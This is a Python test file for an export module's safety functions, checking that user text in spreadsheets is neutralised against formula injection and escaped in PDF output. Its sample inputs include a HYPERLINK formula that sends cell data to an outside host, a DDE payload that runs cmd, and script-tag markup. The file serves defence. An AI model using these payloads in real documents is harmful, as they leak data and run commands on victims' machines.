"""User text in spreadsheets never runs as a formula; in the PDF it never acts as markup."""

from __future__ import annotations

import io

import pytest

from readiness.export.safety import clean_text, markup_text, neutralise_formula, restore_text

ATTACKS = [
    '=HYPERLINK("http://voorbeeld.nl/?d="&A1,"klik")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",  # some programs trim leading spaces before they parse
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_formula_text_gets_a_leading_apostrophe_and_comes_back_on_import(attack):
    safe = neutralise_formula(attack)
    assert safe == "'" + attack
    assert restore_text(safe) == attack


@pytest.mark.parametrize(
    "text",
    [
        "Overleg met het wijkteam - gepland",
        "'s-Hertogenbosch",  # an apostrophe of its own stays
        "2 + 3 teams",
        "e-mail naar het team",
        "",
        "Coördinator: één sessie, geëvalueerd, naïef",
    ],
)
def test_ordinary_text_is_left_alone(text):
    assert neutralise_formula(text) == text
    assert restore_text(text) == text


@pytest.mark.parametrize("attack", ATTACKS)
def test_openpyxl_stores_neutralised_text_as_text_not_as_formula(attack):
    from openpyxl import Workbook, load_workbook

    book = Workbook()
    book.active["A1"] = neutralise_formula(attack)
    buffer = io.BytesIO()
    book.save(buffer)
    cell = load_workbook(buffer).active["A1"]
    assert cell.data_type == "s"
    assert cell.value == "'" + clean_text(attack)


def test_the_check_catches_what_openpyxl_would_treat_as_a_formula():
    """Without neutralising, openpyxl writes '=...' as a live formula: the guard is needed."""
    from openpyxl import Workbook

    cell = Workbook().active["A1"]
    cell.value = "=1+1"
    assert cell.data_type == "f"
    cell.value = neutralise_formula("=1+1")
    assert cell.data_type == "s"


def test_markup_is_escaped_for_reportlab_and_line_breaks_kept():
    assert markup_text("<b>vet</b> & <script>x</script>") == "&lt;b&gt;vet&lt;/b&gt; &amp; &lt;script&gt;x&lt;/script&gt;"
    assert markup_text("regel 1\nregel 2") == "regel 1<br/>regel 2"


def test_reportlab_paragraph_shows_escaped_markup_literally():
    from pypdf import PdfReader
    from reportlab.lib.styles import getSampleStyleSheet
    from reportlab.platypus import Paragraph, SimpleDocTemplate

    buffer = io.BytesIO()
    note = "<b>vet</b> en <script>alert(1)</script> & meer"
    SimpleDocTemplate(buffer).build([Paragraph(markup_text(note), getSampleStyleSheet()["Normal"])])
    assert note in PdfReader(buffer).pages[0].extract_text()


def test_control_characters_that_xml_cannot_hold_are_dropped():
    assert clean_text("a\x00b\x07c\x1fd\te\nf") == "abcd\te\nf"
    assert neutralise_formula("\x00=1+1") == "'=1+1"


def test_import_problems_print_control_characters_as_replacement_marks():
    from readiness.export.importer import Problem

    text = str(Problem("antwoorden.csv", "onbekende kolom '\x00\x1bx'", row=1))
    assert text == "antwoorden.csv, rij 1: onbekende kolom '\ufffd\ufffdx'"
